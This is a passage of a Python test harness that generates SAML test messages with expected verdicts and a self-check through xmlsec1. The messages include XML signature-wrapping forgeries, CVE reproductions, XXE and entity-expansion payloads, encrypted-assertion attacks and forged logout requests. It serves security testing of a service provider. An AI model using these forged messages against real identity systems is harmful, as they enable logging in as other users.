    else:
        key_info.append(encrypted_key(cert, key_alg, session_key))
    cipher_data = etree.SubElement(ed, q(XENC, "CipherData"))
    etree.SubElement(cipher_data, q(XENC, "CipherValue")).text = b64(encrypt(session_key, plaintext))
    return ea


def element_bytes(el):
    """el serialized on its own; lxml declares the namespaces it inherits."""
    return etree.tostring(el, with_tail=False)


def encrypted(ctx, name_id, signed="assertion", payload=element_bytes, cert=None, **enc):
    """A Response whose Assertion is replaced by an EncryptedAssertion.

    signed: "assertion" (signed, then encrypted, as IdPs do), "response" (the Response
    signature covers the ciphertext) or None. payload(assertion) gives the plaintext.
    """
    r = assertion_signed(ctx, name_id) if signed == "assertion" else build(ctx, name_id)
    a = assertion_of(r)
    r.replace(a, encrypted_assertion(payload(a), cert if cert is not None else ctx.sp_encryption_cert, **enc))
    etree.indent(r, space="  ")  # safe: nothing signed is left in plaintext
    if signed == "response":
        r = sign(r, r.get("ID"), ctx.key, ctx.cert_pem)
    return r


def data_cipher_value(root):
    return root.find(".//" + f"{q(XENC, 'EncryptedData')}/{q(XENC, 'CipherData')}/{q(XENC, 'CipherValue')}")


def tamper_offset(n):
    """A byte in the middle of a GCM CipherValue's ciphertext (not the IV, not the tag)."""
    return GCM_IV + (n - GCM_IV - GCM_TAG) // 2


def encrypted_good_gcm(ctx):
    return serialize(encrypted(ctx, ctx.name_id)), "genuine; Assertion signed, then encrypted aes256-gcm / rsa-oaep-mgf1p; Response unsigned"


def encrypted_good_response_signed_cbc(ctx):
    r = encrypted(ctx, ctx.name_id, signed="response", data_alg=AES256_CBC)
    return serialize(r), "genuine; unsigned Assertion encrypted aes256-cbc; the Response signature covers the EncryptedAssertion"


def encrypted_good_retrieval_method(ctx):
    r = encrypted(ctx, ctx.name_id, key_as_sibling=True)
    return serialize(r), "genuine; as encrypted_good_gcm, EncryptedKey a sibling of EncryptedData named by a ds:RetrievalMethod"


def encrypted_unsigned(ctx):
    r = encrypted(ctx, ctx.name_id, signed=None)
    return serialize(r), "forged Assertion encrypted to the (public) SP cert; nothing signed anywhere"


def opaque_payload(ctx, assertion):
    """Attacker plaintext shaped EncryptedAssertion/Assertion, whose ds:Signature Reference and
    XSLT Transform both point at the canary. SignedInfo is validly signed with the real key (as
    in xslt_transform), so only the EncryptedData Type stops it."""
    sig = etree.Element(q(DS, "Signature"), nsmap={"ds": DS})
    si = etree.SubElement(sig, q(DS, "SignedInfo"))
    etree.SubElement(si, q(DS, "CanonicalizationMethod"), Algorithm=EXC_C14N)
    etree.SubElement(si, q(DS, "SignatureMethod"), Algorithm=SIG_RSA_SHA256)
    ref = etree.SubElement(si, q(DS, "Reference"), URI=f"{ctx.canary}/enc-reference")
    fetching_xslt_transform(etree.SubElement(ref, q(DS, "Transforms")), f"{ctx.canary}/enc-xslt")
    etree.SubElement(ref, q(DS, "DigestMethod"), Algorithm=DIGEST_SHA256)
    etree.SubElement(ref, q(DS, "DigestValue")).text = b64(hashlib.sha256(b"").digest())
    etree.SubElement(sig, q(DS, "SignatureValue"))
    resign_signed_info(sig, ctx.key)
    a = copy.deepcopy(assertion)
    a.find(q(SAML, "Issuer")).addnext(sig)
    wrapper = etree.Element(q(SAML, "EncryptedAssertion"), nsmap={"saml": SAML})
    wrapper.append(a)
    etree.indent(wrapper, space="  ")
    return element_bytes(wrapper)


def encrypted_opaque_type(ctx):
    r = encrypted(ctx, ctx.name_id, signed=None, payload=lambda a: opaque_payload(ctx, a), data_type=OPAQUE_TYPE)
    return serialize(r), (
        f'EncryptedData Type="{OPAQUE_TYPE}"; the plaintext has a Signature whose Reference and XSLT fetch '
        f"{ctx.canary}/enc-reference and /enc-xslt - never processed, never fetched"
    )


def encrypted_tampered_ciphertext(ctx):
    r = encrypted(ctx, ctx.name_id)
    cv = data_cipher_value(r)
    raw = bytearray(base64.b64decode(cv.text))
    raw[tamper_offset(len(raw))] ^= 0x01
    cv.text = b64(bytes(raw))
    return serialize(r), "encrypted_good_gcm with one ciphertext byte flipped (GCM tag fails)"


def encrypted_rsa_1_5(ctx):
    r = encrypted(ctx, ctx.name_id, key_alg=RSA_1_5)
    return serialize(r), "genuine signed Assertion; key transport rsa-1_5 (padding oracle, refused)"


def encrypted_two_keys(ctx):
    r = encrypted(ctx, ctx.name_id, decoy_key=True)
    return serialize(r), "two EncryptedKeys in KeyInfo: a random key first, then the real one (one RSA operation at most)"


def encrypted_to_attacker_cert(ctx):
    r = encrypted(ctx, ctx.name_id, cert=ctx.attacker_cert)
    return serialize(r), "genuine signed Assertion encrypted to an attacker certificate"


def encrypted_xsw_two_assertions(ctx):
    def payload(a):
        return element_bytes(a) + b"\n" + element_bytes(_evil_assertion_copy(ctx, a))

    r = encrypted(ctx, ATTACKER_NAME_ID, payload=payload)
    return serialize(r), "plaintext: the attacker's signed Assertion, then an unsigned forged one for the victim"


def encrypted_tripledes(ctx):
    r = encrypted(ctx, ctx.name_id, data_alg=TRIPLEDES_CBC)
    return serialize(r), "genuine signed Assertion; content tripledes-cbc (refused)"


# --------------------------------------------------------------------------- logout messages

REQUEST, RESPONSE = "SAMLRequest", "SAMLResponse"  # the POST field each is sent in


def build_logout(ctx, field, **o):
    """A LogoutRequest (field SAMLRequest) or Success LogoutResponse from the IdP to our SLO URL;
    keyword overrides bend single fields, extensions= goes into samlp:Extensions."""
    now = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
    m = etree.Element(q(SAMLP, "LogoutRequest" if field == REQUEST else "LogoutResponse"), nsmap={"samlp": SAMLP, "saml": SAML})
    m.set("ID", new_id())
    m.set("Version", "2.0")
    m.set("IssueInstant", o.get("issue_instant", iso(now)))
    m.set("Destination", o.get("destination", ctx.slo))
    if field == RESPONSE:
        m.set("InResponseTo", o["in_response_to"] if "in_response_to" in o else ctx.logout_in_response_to)
    etree.SubElement(m, q(SAML, "Issuer")).text = o.get("issuer", ctx.issuer)
    ext = etree.SubElement(m, q(SAMLP, "Extensions")) if "extensions" in o else None
    if field == REQUEST:
        etree.SubElement(m, q(SAML, "NameID"), Format=NAMEID_PERSISTENT).text = ctx.name_id
        etree.SubElement(m, q(SAMLP, "SessionIndex")).text = ctx.session_index
    else:
        etree.SubElement(etree.SubElement(m, q(SAMLP, "Status")), q(SAMLP, "StatusCode"), Value=STATUS_SUCCESS)
    etree.indent(m, space="  ")
    if ext is not None:  # after indent(), which would rewrite the signed element's whitespace
        ext.text = "\n    "
        o["extensions"].tail = "\n  "
        ext.append(o["extensions"])
    return m


def signed_assertion(ctx, name_id):
    a = copy.deepcopy(assertion_of(assertion_signed(ctx, name_id)))
    a.tail = None
    return a


# case -> (field, {override: value(ctx)}, signer, note); signer "idp", "attacker" or None.
# Overrides are per field so the self-check can tell which field a case bends.
LOGOUT_CASES = {
    "logout_request_good": (REQUEST, {}, "idp", "genuine signed LogoutRequest (NameID, SessionIndex)"),
    "logout_request_unsigned": (REQUEST, {}, None, "unsigned LogoutRequest (SM25)"),
    "logout_request_attacker_key": (REQUEST, {}, "attacker", "LogoutRequest signed by an attacker key whose cert is in KeyInfo"),
    "logout_request_wrong_destination": (
        REQUEST,
        {"destination": lambda ctx: EVIL_URL + "/saml2/logout"},
        "idp",
        "signed LogoutRequest, Destination another SP",
    ),
    "logout_request_wrong_issuer": (
        REQUEST,
        {"issuer": lambda ctx: EVIL_URL + "/idp"},
        "idp",
        "LogoutRequest signed with the real key, Issuer another entity",
    ),
    "logout_request_wrapped_assertion": (
        REQUEST,
        {"extensions": lambda ctx: signed_assertion(ctx, ATTACKER_NAME_ID)},
        None,
        "unsigned LogoutRequest carrying a genuinely IdP-signed Assertion in samlp:Extensions (samlify GHSA-63ch-w8pw-4mf2)",
    ),
    "logout_request_expired": (
        REQUEST,
        {"issue_instant": lambda ctx: _minutes(-30)},
        "idp",
        "signed LogoutRequest, IssueInstant 30 min ago",
    ),
    "logout_response_wrong_inresponseto": (
        RESPONSE,
        {"in_response_to": lambda ctx: new_id()},
        "idp",
        "signed Success LogoutResponse, InResponseTo a request we never sent",
    ),
    "logout_response_unsigned": (RESPONSE, {}, None, "unsigned Success LogoutResponse to our request"),
    "logout_response_good": (RESPONSE, {}, "idp", "genuine signed Success LogoutResponse to our request"),
}


def logout_case(name):
    field, overrides, signer, note = LOGOUT_CASES[name]

    def case(ctx):
        m = build_logout(ctx, field, **{k: v(ctx) for k, v in overrides.items()})
        if signer:
            key, cert = (ctx.key, ctx.cert_pem) if signer == "idp" else (ctx.attacker_key, ctx.attacker_cert_pem)
            m = sign(m, m.get("ID"), key, cert)
        return serialize(m), note

    return case


OK, FAIL = "OK", "FAIL"
ENC_OK, ENC_FAIL = f"{OK}/{OK}", f"{FAIL}/-"
# name -> (expect, xmlsec1 oracle, builder). Extras beyond the brief are marked.
CASES = {
    "good_assertion_signed": ("accept", OK, good_assertion_signed),
    "good_response_signed": ("accept", OK, good_response_signed),
    "good_both_signed": ("accept", OK, good_both_signed),
    "strip_signatures": ("reject", FAIL, strip_signatures),
    "empty_signature_value": ("reject", FAIL, empty_signature_value),
    "resign_with_attacker_key": ("reject", FAIL, resign_with_attacker_key),
    "tampered_nameid": ("reject", FAIL, tampered_nameid),
    "xsw1": ("reject", OK, xsw1),
    "xsw2": ("reject", OK, xsw2),
    "xsw3": ("reject", OK, xsw3),
    "xsw4": ("reject", OK, xsw4),
    "xsw5": ("reject", OK, xsw5),
    "xsw6": ("reject", OK, xsw6),
    "xsw7": ("reject", OK, xsw7),
    "xsw7_schema_valid": ("reject", OK, xsw7_schema_valid),
    "xsw8": ("reject", OK, xsw8),
    "two_assertions_cve_2022_41912": ("reject", OK, two_assertions_cve_2022_41912),
    "comment_injection_nameid": ("reject", OK, comment_injection_nameid),
    "expired_conditions": ("reject", OK, field_case("expired_conditions")),
    "not_yet_valid": ("reject", OK, field_case("not_yet_valid")),
    "expired_subjectconfirmation": ("reject", OK, field_case("expired_subjectconfirmation")),
    "wrong_audience": ("reject", OK, field_case("wrong_audience")),
    "no_audience": ("reject", OK, field_case("no_audience")),
    "wrong_destination": ("reject", OK, field_case("wrong_destination")),
    "wrong_recipient": ("reject", OK, field_case("wrong_recipient")),
    "wrong_inresponseto": ("reject", OK, field_case("wrong_inresponseto")),
    "missing_inresponseto": ("reject", OK, field_case("missing_inresponseto")),
    "wrong_issuer": ("reject", OK, field_case("wrong_issuer")),
    "status_responder": ("reject", OK, field_case("status_responder")),
    "unsigned_fields_forged": ("reject", OK, unsigned_fields_forged),
    "decoy_signature_error_response": ("reject", OK, decoy_signature_error_response),
    "xslt_transform": ("reject", None, xslt_transform),
    "injected_digestvalue_cve_2024_45409": ("reject", FAIL, injected_digestvalue_cve_2024_45409),
    "comment_in_digestvalue_cve_2025_29775": ("reject", FAIL, comment_in_digestvalue_cve_2025_29775),
    "two_references": ("reject", OK, two_references),
    "rsa_sha1_signature": ("reject", OK, rsa_sha1_signature),
    "doctype_plain": ("reject", OK, doctype_plain),
    "xxe_file": ("reject", None, xxe_file),
    "billion_laughs": ("reject", None, billion_laughs),
    "oversized": ("reject", OK, oversized),
    "reference_uri_empty": ("reject", OK, reference_uri_empty),
    "signature_moved": ("reject", OK, signature_moved),
    # extras
    "hmac_sha256_signature": ("reject", FAIL, hmac_sha256_signature),
    "xxe_external_general": ("reject", None, xxe_external_general),
    "xxe_parameter": ("reject", None, xxe_parameter),
    "signed_assertion_in_extensions": ("reject", OK, signed_assertion_in_extensions),
    # EncryptedAssertion; the oracle is "<xmlsec1 --decrypt with the SP key>/<signature that
    # vouches: the Response's, else the decrypted Assertion's>", "-" = not run.
    "encrypted_good_gcm": ("accept", ENC_OK, encrypted_good_gcm),
    "encrypted_good_response_signed_cbc": ("accept", ENC_OK, encrypted_good_response_signed_cbc),
    "encrypted_good_retrieval_method": ("accept", ENC_OK, encrypted_good_retrieval_method),
    "encrypted_unsigned": ("reject", f"{OK}/{FAIL}", encrypted_unsigned),
    "encrypted_opaque_type": ("reject", f"{OK}/-", encrypted_opaque_type),
    "encrypted_tampered_ciphertext": ("reject", ENC_FAIL, encrypted_tampered_ciphertext),
    "encrypted_rsa_1_5": ("reject", ENC_OK, encrypted_rsa_1_5),
    # xmlsec1 uses the first EncryptedKey (the random key), so FAIL; the self-check shows the second one works.
    "encrypted_two_keys": ("reject", ENC_FAIL, encrypted_two_keys),
    "encrypted_to_attacker_cert": ("reject", ENC_FAIL, encrypted_to_attacker_cert),
    "encrypted_xsw_two_assertions": ("reject", ENC_OK, encrypted_xsw_two_assertions),
    "encrypted_tripledes": ("reject", ENC_OK, encrypted_tripledes),
    # logout messages (output "field" says which POST field carries them)
    "logout_request_good": ("accept", OK, logout_case("logout_request_good")),
    "logout_request_unsigned": ("reject", FAIL, logout_case("logout_request_unsigned")),
    "logout_request_attacker_key": ("reject", FAIL, logout_case("logout_request_attacker_key")),
    "logout_request_wrong_destination": ("reject", OK, logout_case("logout_request_wrong_destination")),
    "logout_request_wrong_issuer": ("reject", OK, logout_case("logout_request_wrong_issuer")),
    # OK: the embedded Assertion's signature is genuine; the message itself has none.
    "logout_request_wrapped_assertion": ("reject", OK, logout_case("logout_request_wrapped_assertion")),
    "logout_request_expired": ("reject", OK, logout_case("logout_request_expired")),
    "logout_response_wrong_inresponseto": ("reject", OK, logout_case("logout_response_wrong_inresponseto")),
    "logout_response_unsigned": ("reject", FAIL, logout_case("logout_response_unsigned")),
    "logout_response_good": ("accept", OK, logout_case("logout_response_good")),
}


class MissingInput(ValueError):
    pass


def needs(name):
    """The optional inputs a case cannot be built without."""
    if name.startswith("encrypted_"):
        return ["sp_encryption_cert"]
    if name in LOGOUT_CASES:
        field, overrides, _, _ = LOGOUT_CASES[name]
        return ["slo"] + (["logout_in_response_to"] if field == RESPONSE and "in_response_to" not in overrides else [])
    return []


def check_inputs(ctx, name):
    if name not in CASES:
        raise KeyError(f"unknown case {name!r}")
    missing = [n for n in needs(name) if getattr(ctx, n) is None]
    if missing:
        raise MissingInput(f"case {name!r} needs input {', '.join(map(repr, missing))}")


def generate(ctx, name, in_response_to):
    check_inputs(ctx, name)
    expect, _oracle, fn = CASES[name]
    # Logout messages answer no AuthnRequest (an Assertion embedded in one stays unsolicited).
    ctx.in_response_to = None if name in LOGOUT_CASES else in_response_to
    xml, note = fn(ctx)
    out = {"name": name, "expect": expect}
    if name in LOGOUT_CASES:
        out["field"] = LOGOUT_CASES[name][0]
    elif in_response_to is None and name != "missing_inresponseto":
        note += " [unsolicited: no InResponseTo]"
    return {**out, "saml_response": base64.b64encode(xml).decode(), "note": note}


def context(request):
    with open(request["idp_key"], "rb") as f:
        key_pem = f.read()
    with open(request["idp_cert"], "rb") as f:
        cert_pem = f.read()
    sp_cert_pem = None
    if request.get("sp_encryption_cert"):
        with open(request["sp_encryption_cert"], "rb") as f:
            sp_cert_pem = f.read()
    return Ctx(
        key_pem,
        cert_pem,
        request["issuer"],
        request["audience"],
        request["acs"],
        request.get("name_id", "admin@example.test"),
        request.get("canary_url", DEFAULT_CANARY),
        sp_cert_pem,
        request.get("slo"),
        request.get("session_index"),
        request.get("logout_in_response_to"),
    )


def run(request, ctx=None):
    ctx = ctx or context(request)
    cases = request.get("cases")
    if not cases:  # every case the given inputs can build
        names = [n for n in CASES if all(getattr(ctx, i) is not None for i in needs(n))]
        return [generate(ctx, n, None) for n in names]
    for c in cases:  # fail before generating anything
        check_inputs(ctx, c["name"])
    return [generate(ctx, c["name"], c.get("in_response_to")) for c in cases]


# --------------------------------------------------------------------------- self-check


def xmlsec_verify(path, pubkey_path, node_xpath=None):
    cmd = [
        XMLSEC1,
        "--verify",
        "--enabled-key-data",
        "rsa",  # only the key given here; never a KeyInfo certificate
        "--pubkey-pem",
        pubkey_path,
        "--id-attr:ID",
        "urn:oasis:names:tc:SAML:2.0:protocol:Response",
        "--id-attr:ID",
        "urn:oasis:names:tc:SAML:2.0:assertion:Assertion",
        "--id-attr:ID",
        "urn:oasis:names:tc:SAML:2.0:protocol:LogoutRequest",
        "--id-attr:ID",
        "urn:oasis:names:tc:SAML:2.0:protocol:LogoutResponse",
    ]
    if node_xpath:
        cmd += ["--node-xpath", node_xpath]
    r = subprocess.run(cmd + [path], capture_output=True, timeout=30)
    return (OK if r.returncode == 0 else FAIL), r.stderr.decode(errors="replace").strip().splitlines()[-1:]


def xmlsec_decrypt(path, key_path):
    """xmlsec1's decryption of the first EncryptedData: (output bytes or None, why). For Type
    Element the output is the document with the plaintext in place, otherwise the raw plaintext."""
    cmd = [
        XMLSEC1,
        "--decrypt",
        "--privkey-pem",
        key_path,
        "--id-attr:Id",
        XENC + ":EncryptedKey",  # the target of RetrievalMethod URI="#…"
    ]
    r = subprocess.run(cmd + [path], capture_output=True, timeout=30)
    if r.returncode == 0:
        return r.stdout, []
    return None, r.stderr.decode(errors="replace").strip().splitlines()[-1:]


SAFE_PARSER = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)


WRAPPING = {"xsw1", "xsw2", "xsw3", "xsw4", "xsw5", "xsw6", "xsw7", "xsw7_schema_valid", "xsw8",
            "two_assertions_cve_2022_41912", "signed_assertion_in_extensions"}


def xmlsec_verify_extracted(xml, tmp, pubkey_path):
    """Faithfulness check for wrapping cases that xmlsec1 refuses as a whole (duplicate IDs,
    foreign content inside ds:Signature): cut out each element carrying the Reference's ID,
    put the bare Signature (SignedInfo, SignatureValue, KeyInfo) back after its Issuer and let
    xmlsec1 verify that stand-alone document. OK means the wrapped document still carries the
    IdP's signed bytes unchanged, i.e. what a naive ID-resolving verifier would accept.
    """
    root = etree.fromstring(xml)
    sig = next(s for s in root.iter(q(DS, "Signature")) if s.getparent().tag != q(DS, "Object"))
    ref_id = sig.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}").get("URI").lstrip("#")
    bare = etree.Element(q(DS, "Signature"), nsmap={"ds": DS})
    for child in sig:
        if child.tag in (q(DS, "SignedInfo"), q(DS, "SignatureValue"), q(DS, "KeyInfo")):
            bare.append(copy.deepcopy(child))
    for n, candidate in enumerate(root.xpath("//*[@ID=$i]", i=ref_id)):
        doc = etree.fromstring(etree.tostring(candidate, with_tail=False))
        if own_signature(doc) is None:
            s = copy.deepcopy(bare)
            doc.find(q(SAML, "Issuer")).addnext(s)  # tail-less: c14n without s is unchanged
        path = os.path.join(tmp, f"extracted-{n}.xml")
        with open(path, "wb") as f:
            f.write(etree.tostring(doc))
        if xmlsec_verify(path, pubkey_path)[0] == OK:
            return "OK*", []
    return FAIL, [f"no element with ID {ref_id} verifies"]


def naive_users(xml):
    """Who sloppy consumers would log in as (first text node only): the first NameID in
    document order, /Response/Assertion[1]/Subject/NameID and .../Assertion[last()]/..."""
    try:
        root = etree.fromstring(xml, SAFE_PARSER)
    except etree.XMLSyntaxError:
        return None, None, None
    first = root.find(".//" + q(SAML, "NameID"))
    subject = f"{q(SAML, 'Assertion')}/{q(SAML, 'Subject')}/{q(SAML, 'NameID')}"
    # A decrypted Response has its Assertions inside EncryptedAssertion.
    paths = root.findall(subject) + root.findall(f"{q(SAML, 'EncryptedAssertion')}/{subject}")
    text = lambda el: el.text if el is not None else None  # noqa: E731
    return text(first), text(paths[0] if paths else None), text(paths[-1] if paths else None)


def signed_info_valid(root, public_key):
    """SignatureValue over SignedInfo of the first real Signature (digests not checked)."""
    sig = next(x for x in root.iter(q(DS, "Signature")) if x.getparent().tag != q(DS, "Object"))
    si = sig.find(q(DS, "SignedInfo"))
    sha1 = si.find(q(DS, "SignatureMethod")).get("Algorithm") == SIG_RSA_SHA1
    try:
        value = base64.b64decode(sig.find(q(DS, "SignatureValue")).text or "")
        public_key.verify(value, c14n(si), padding.PKCS1v15(), hashes.SHA1() if sha1 else hashes.SHA256())
        return True
    except Exception:  # noqa: BLE001 - InvalidSignature or garbage
        return False


def extra_checks(name, xml, name_id, public_key, cert_pem, oracle_fn):
    """Case-specific faithfulness checks beyond the xmlsec1 verdict: [(label, passed)]."""
    out = []
    users = naive_users(xml)
    if name in WRAPPING:
        out.append(("victim-readable", name_id in users))
        # The oracle must notice a change to the attacker's genuinely signed copy.
        out.append(("tamper->FAIL", oracle_fn(xml.replace(ATTACKER_NAME_ID.encode(), b"attacker@attacker.tesx")) == FAIL))
    if name.startswith("good_"):
        out.append(("signxml-accepts", signxml_accepts(xml, cert_pem)))
        out.append(("nameid", set(users) == {name_id}))
    if "DOCTYPE" in xml[:200].decode(errors="replace"):
        return out
    root = etree.fromstring(xml)
    a = assertion_of(root)
    if name == "comment_injection_nameid":
        nid = a.find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")
        out.append(("first-text=victim", nid.text == name_id))
        out.append(("itertext=full", "".join(nid.itertext()) == name_id + ".attacker.test"))
    if name in ("injected_digestvalue_cve_2024_45409", "comment_in_digestvalue_cve_2025_29775", "xslt_transform"):
        out.append(("SignedInfo-valid", signed_info_valid(root, public_key)))
    if name == "injected_digestvalue_cve_2024_45409":
        planted = root.find(f"{q(SAMLP, 'Extensions')}/{q(DS, 'DigestValue')}").text
        out.append(("planted=forged-digest", planted == enveloped_digest(a)))
    if name == "comment_in_digestvalue_cve_2025_29775":
        dv = a.find(f"{q(DS, 'Signature')}/{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}/{q(DS, 'DigestValue')}")
        out.append(("comment=forged-digest", dv[0].text == enveloped_digest(a)))
    if name == "oversized":
        out.append(("b64>100000", len(base64.b64encode(xml)) > COGNITO_MAX_CHARS))
    if name == "missing_inresponseto":
        out.append(("no-InResponseTo", b"InResponseTo" not in xml))
    return out


def key_transport_of(root):
    return root.find(".//" + f"{q(XENC, 'EncryptedKey')}/{q(XENC, 'EncryptionMethod')}").get("Algorithm")


def encrypted_checks(name, xml, plain, name_id, canary, decrypts):
    """Faithfulness checks for the EncryptedAssertion cases: [(label, passed)].

    plain is xmlsec1's output with the SP key (None if it failed); decrypts(xml, who) says
    whether xmlsec1 decrypts xml with the "sp" or the "attacker" key.
    """
    root = etree.fromstring(xml)
    ea = root.find(q(SAML, "EncryptedAssertion"))
    ed = ea.find(q(XENC, "EncryptedData"))
    key_info = ed.find(q(DS, "KeyInfo"))
    data_alg = ed.find(q(XENC, "EncryptionMethod")).get("Algorithm")
    want_data = {"encrypted_good_response_signed_cbc": AES256_CBC, "encrypted_tripledes": TRIPLEDES_CBC}.get(name, AES256_GCM)
    want_key = RSA_1_5 if name == "encrypted_rsa_1_5" else RSA_OAEP_MGF1P
    out = [
        ("no-plaintext-Assertion", root.find(".//" + q(SAML, "Assertion")) is None),
        (f"{want_data.split('#')[1]}/{want_key.split('#')[1]}", (data_alg, key_transport_of(root)) == (want_data, want_key)),
    ]
    if name == "encrypted_good_retrieval_method":
        ek = ea.find(q(XENC, "EncryptedKey"))
        rm = key_info.find(q(DS, "RetrievalMethod"))
        out.append(("EncryptedKey-sibling+RetrievalMethod", ek is not None and rm is not None and rm.get("URI") == "#" + ek.get("Id")))
    else:
        out.append(("EncryptedKey-in-KeyInfo", key_info.find(q(XENC, "EncryptedKey")) is not None))
    if name == "encrypted_opaque_type":
        doc = etree.fromstring(plain, SAFE_PARSER) if plain else None
        ok = doc is not None and doc.tag == q(SAML, "EncryptedAssertion") and doc[0].tag == q(SAML, "Assertion")
        ok = ok and doc.find(".//" + q(DS, "Reference")).get("URI") == canary + "/enc-reference"
        ok = ok and f"document('{canary}/enc-xslt')" in plain.decode()
        out.append(("payload=Assertion+canary-Reference+XSLT", ok))
        return out
    assertions = []
    if plain is not None:
        assertions = etree.fromstring(plain, SAFE_PARSER).findall(f"{q(SAML, 'EncryptedAssertion')}/{q(SAML, 'Assertion')}")
    if name.startswith("encrypted_good_"):
        out.append(("one-Assertion", len(assertions) == 1))
        out.append(("nameid", set(naive_users(plain)) == {name_id}))
    if name == "encrypted_good_response_signed_cbc":
        out.append(("Assertion-unsigned", len(assertions) == 1 and own_signature(assertions[0]) is None))
    if name == "encrypted_unsigned":
        out.append(("no-Signature", plain is not None and b"Signature" not in plain))
    if name == "encrypted_xsw_two_assertions":
        out.append(("two-Assertions", len(assertions) == 2))
        out.append(("victim-readable", name_id in naive_users(plain)))
    if name == "encrypted_tampered_ciphertext":
        cv = data_cipher_value(root)
        raw = bytearray(base64.b64decode(cv.text))
        raw[tamper_offset(len(raw))] ^= 0x01
        cv.text = b64(bytes(raw))
        out.append(("byte-restored-decrypts", decrypts(etree.tostring(root), "sp")))
    if name == "encrypted_two_keys":
        keys = key_info.findall(q(XENC, "EncryptedKey"))
        out.append(("two-keys-in-KeyInfo", len(keys) == 2))
        drop(keys[0])
        out.append(("second-key-alone-decrypts", decrypts(etree.tostring(root), "sp")))
    if name == "encrypted_to_attacker_cert":
        out.append(("attacker-key-decrypts", decrypts(xml, "attacker")))
    return out


def logout_checks(name, xml, request, cert_pem):
    """Faithfulness checks for the logout cases: exactly the fields the case bends are wrong,
    the message is signed (right after Issuer) exactly when it should be."""
    root = etree.fromstring(xml)
    field, overrides, signer, _ = LOGOUT_CASES[name]
    instant = datetime.datetime.strptime(root.get("IssueInstant"), "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=datetime.timezone.utc)
    age = datetime.datetime.now(datetime.timezone.utc) - instant
    right = {
        "destination": root.get("Destination") == request["slo"],
        "issuer": root.findtext(q(SAML, "Issuer")) == request["issuer"],
        "issue_instant": abs(age) < datetime.timedelta(minutes=2),
    }
    if field == RESPONSE:
        right["in_response_to"] = root.get("InResponseTo") == request["logout_in_response_to"]
        right["status"] = root.find(f"{q(SAMLP, 'Status')}/{q(SAMLP, 'StatusCode')}").get("Value") == STATUS_SUCCESS
    else:
        nid = root.find(q(SAML, "NameID"))
        right["subject"] = (nid.text, nid.get("Format"), root.findtext(q(SAMLP, "SessionIndex"))) == (
            request["name_id"], NAMEID_PERSISTENT, request["session_index"])
    bent = {k for k, ok in right.items() if not ok}
    want = set(overrides) - {"extensions"}
    out = [(f"bent={','.join(sorted(want)) or 'none'}", bent == want)]
    sig = own_signature(root)
    placed = sig is not None and root.find(q(SAML, "Issuer")).getnext() is sig
    out.append(("signed-after-Issuer" if signer else "unsigned", placed if signer else sig is None))
    if "extensions" in overrides:
        inner = root.find(f"{q(SAMLP, 'Extensions')}/{q(SAML, 'Assertion')}")
        out.append(("IdP-signed-Assertion-in-Extensions", inner is not None and own_signature(inner) is not None))
    if name.endswith("_good"):
        out.append(("signxml-accepts", signxml_accepts(xml, cert_pem)))
    if name == "logout_request_expired":
        out.append(("IssueInstant-30min-ago", datetime.timedelta(minutes=29) < age < datetime.timedelta(minutes=31)))
    return out


def self_check(keep_dir=None):
    tmp = tempfile.mkdtemp(prefix="saml-cases-")
    try:
        key, cert_pem = make_key_and_cert("self-check IdP")
        key_path, cert_path, pub_path = (os.path.join(tmp, n) for n in ("idp.key", "idp.crt", "idp.pub"))
        with open(key_path, "wb") as f:
            f.write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
        with open(cert_path, "w") as f:
            f.write(cert_pem)
        with open(pub_path, "wb") as f:
            f.write(key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
        # The SP's encryption pair, as the test would read the cert from the SP metadata.
        sp_key_path, sp_cert_path = testkeys.write_pair(tmp, "sp", *testkeys.self_signed("self-check SP"))
        name_id = "admin@example.test"
        request = {
            "idp_key": key_path,
            "idp_cert": cert_path,
            "issuer": "http://127.0.0.1:1/idp",
            "audience": "urn:amazon:cognito:sp:us-east-1_TEST",
            "acs": "http://127.0.0.1:1/saml2/idpresponse",
            "name_id": name_id,
            "sp_encryption_cert": sp_cert_path,
            "slo": "http://127.0.0.1:1/saml2/logout",
            "session_index": "_sess_self_check",
            "logout_in_response_to": "_logout_req_self_check",
            "cases": [{"name": n, "in_response_to": "_req_" + n} for n in CASES],
        }
        ctx = context(request)
        attacker_key_path, _ = testkeys.write_pair(tmp, "attacker", ctx.attacker_key, ctx.attacker_cert)
        decrypt_keys = {"sp": sp_key_path, "attacker": attacker_key_path}

        def write(name, data):
            path = os.path.join(tmp, name)
            with open(path, "wb") as f:
                f.write(data)
            return path

        def oracle_fn(xml, name="probe"):
            path = write(name + ".xml", xml)
            got, why = xmlsec_verify(path, pub_path)
            if got == OK and name == "good_both_signed":  # the Assertion's signature too
                got, why = xmlsec_verify(path, pub_path, "//*[local-name()='Assertion']/*[local-name()='Signature']")
            if got == FAIL and (name in WRAPPING or name == "probe"):
                got, why = xmlsec_verify_extracted(xml, tmp, pub_path)
            return got if name == "probe" else (got, why)

        def decrypts(xml, who):
            return xmlsec_decrypt(write("probe-enc.xml", xml), decrypt_keys[who])[0] is not None

        def decrypt_oracle(xml, name):
            """'<decrypted with the SP key>/<the signature that vouches>', and the decrypted bytes."""
            path = write(name + ".xml", xml)
            plain, why = xmlsec_decrypt(path, sp_key_path)
            if plain is None:
                return f"{FAIL}/-", why, None
            write(name + ".decrypted.xml", plain)
            root = etree.fromstring(xml)
            if root.find(".//" + q(XENC, "EncryptedData")).get("Type") != ENC_ELEMENT:
                return f"{OK}/-", [], plain  # raw attacker plaintext: never fed to a verifier
            if own_signature(root) is not None:  # the Response signature covers the ciphertext
                sig, why = xmlsec_verify(path, pub_path)
            else:
                sig, why = FAIL, ["no signed Assertion"]
                decrypted = etree.fromstring(plain, SAFE_PARSER)
                signed = [a for a in decrypted.iter(q(SAML, "Assertion")) if own_signature(a) is not None]
                for n, a in enumerate(signed):  # each on its own, as the SP checks it after decryption
                    sig, why = xmlsec_verify(write(f"{name}.assertion-{n}.xml", element_bytes(a)), pub_path)
                    if sig == FAIL:
                        break
            return f"{OK}/{sig}", why, plain

        rows, failures = [], 0
        for item in run(request, ctx):
            name = item["name"]
            expect, oracle, _ = CASES[name]
